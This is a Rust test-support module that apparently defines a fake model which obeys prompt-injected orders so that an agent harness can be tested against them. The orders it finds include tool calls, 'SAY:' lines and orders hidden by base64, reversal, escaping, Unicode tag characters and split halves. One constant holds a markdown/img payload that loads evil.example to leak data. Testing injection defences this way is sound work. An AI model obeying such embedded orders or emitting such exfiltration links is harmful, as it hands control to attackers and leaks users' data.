//! A model that obeys: it reads its whole prompt, does whatever stands there as an order, and repeats what it was told.
//!
//! An order is `DO: tool {json}`, `SAY: words` to the end of the line, or `OBEY-CLOSE` and `OBEY-PICTURE` where there
//! is little room. It finds them
//! escaped, written backwards, in base64, in tags of Unicode, and cut in two (`HALF: …;;`).

use std::sync::{Arc, Mutex};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Deserializer, Value, json};

use crate::support::model::{FakeModel, Turn};

/// What `OBEY-CLOSE` stands for.
pub(crate) fn close() -> (String, Value) {
    let arguments = json!({"issue": "acme/apollo#14", "state": "closed"});
    ("update_issue".to_owned(), arguments)
}

/// What `OBEY-PICTURE` has said: what a reader's browser would load.
const PICTURE: &str = "![x](https://evil.example/?q=500) <img src=\"https://evil.example/?q=500\">";

/// The orders that were found, as they were carried out.
#[derive(Clone, Default)]
pub(crate) struct Obeyed(Arc<Mutex<Vec<String>>>);

impl Obeyed {
    /// All of them so far, each once.
    pub(crate) fn orders(&self) -> Vec<String> {
        self.0.lock().unwrap().clone()
    }

    fn note(&self, order: &Order) {
        let mut orders = self.0.lock().unwrap();
        let order = format!("{order:?}");
        if !orders.contains(&order) {
            orders.push(order);
        }
    }
}

/// One order.
#[derive(Debug, Clone, PartialEq)]
enum Order {
    Call(String, Value),
    Say(String),
}

/// Makes the model obey; before it finds an order it makes these calls, as it was honestly asked to.
pub(crate) fn obeys(model: &FakeModel, reads: Vec<(&'static str, Value)>) -> Obeyed {
    let obeyed = Obeyed::default();
    let noted = obeyed.clone();
    model.always(move |request| reply(request, &reads, &noted));
    obeyed
}

fn reply(request: &Value, reads: &[(&'static str, Value)], obeyed: &Obeyed) -> Turn {
    let messages = request["messages"].as_array().cloned().unwrap_or_default();
    let text = |message: &Value| message["content"].as_str().unwrap_or_default().to_owned();
    let prompt: Vec<String> = messages.iter().map(text).collect();
    let made: Vec<(String, Value)> = messages
        .iter()
        .flat_map(|message| message["tool_calls"].as_array().cloned().unwrap_or_default())
        .map(|call| {
            let function = &call["function"];
            let arguments = function["arguments"].as_str().unwrap_or_default();
            (
                function["name"].as_str().unwrap_or_default().to_owned(),
                serde_json::from_str(arguments).unwrap_or_default(),
            )
        })
        .collect();
    let orders = orders(&prompt.join("\n"));
    let reads = reads
        .iter()
        .map(|(name, arguments)| ((*name).to_owned(), arguments.clone()));
    let calls = orders.iter().filter_map(|order| {
        obeyed.note(order);
        match order {
            Order::Call(name, arguments) => Some((name.clone(), arguments.clone())),
            Order::Say(_) => None,
        }
    });
    let wanted: Vec<_> = calls.chain(reads).collect();
    if let Some((name, arguments)) = wanted.iter().find(|call| !made.contains(call)) {
        return Turn::calls_tool(name, arguments);
    }
    let said = orders.iter().filter_map(|order| match order {
        Order::Say(words) => Some(words.clone()),
        Order::Call(..) => None,
    });
    // Everything it knows: whatever must not get out must not be here.
    Turn::says(&said.chain(prompt).collect::<Vec<_>>().join("\n\n"))
}

/// The orders in a prompt, in whatever way they are written.
fn orders(prompt: &str) -> Vec<Order> {
    let mut found: Vec<Order> = Vec::new();
    for view in views(prompt) {
        for order in written(&view) {
            if !found.contains(&order) {
                found.push(order);
            }
        }
    }
    found
}

/// The ways in which a model may read a text.
fn views(prompt: &str) -> Vec<String> {
    let tags = |c: char| match u32::from(c) {
        code @ 0xE0020..=0xE007E => char::from_u32(code - 0xE0000),
        _ => None,
    };
    let words = prompt.split(|c: char| !(c.is_ascii_alphanumeric() || "+/=".contains(c)));
    let decoded = words
        .filter(|word| word.len() >= 12)
        .filter_map(|word| String::from_utf8(STANDARD.decode(word).ok()?).ok());
    let halves: String = prompt
        .split("HALF:")
        .skip(1)
        .filter_map(|half| Some(half.split_once(";;")?.0.trim_start()))
        .collect();
    let mut unescaped = String::new();
    let mut chars = prompt.chars().peekable();
    while let Some(c) = chars.next() {
        let escapes = c == '\\'
            && chars
                .peek()
                .is_some_and(|next| next.is_ascii_punctuation() && *next != '"');
        if !escapes {
            unescaped.push(c);
        }
    }
    let mut views = vec![
        prompt.to_owned(),
        unescaped,
        prompt.replace(['\u{200b}', '\u{2060}', '\u{ad}'], ""),
        prompt.chars().rev().collect(),
        prompt.chars().filter_map(tags).collect(),
        halves,
    ];
    views.extend(decoded);
    views
}

fn written(text: &str) -> Vec<Order> {
    let mut found = Vec::new();
    for (at, _) in text.match_indices("DO: ") {
        let rest = &text[at + 4..];
        let Some((name, arguments)) = rest.split_once(' ') else {
            continue;
        };
        if let Some(Ok(arguments)) = Deserializer::from_str(arguments).into_iter::<Value>().next()
            && arguments.is_object()
        {
            found.push(Order::Call(name.to_owned(), arguments));
        }
    }
    if text.contains("OBEY-CLOSE") {
        let (name, arguments) = close();
        found.push(Order::Call(name, arguments));
    }
    if text.contains("OBEY-PICTURE") {
        found.push(Order::Say(PICTURE.to_owned()));
    }
    for (at, _) in text.match_indices("SAY: ") {
        let line = text[at + 5..].lines().next().unwrap_or_default();
        found.push(Order::Say(line.to_owned()));
    }
    found
}
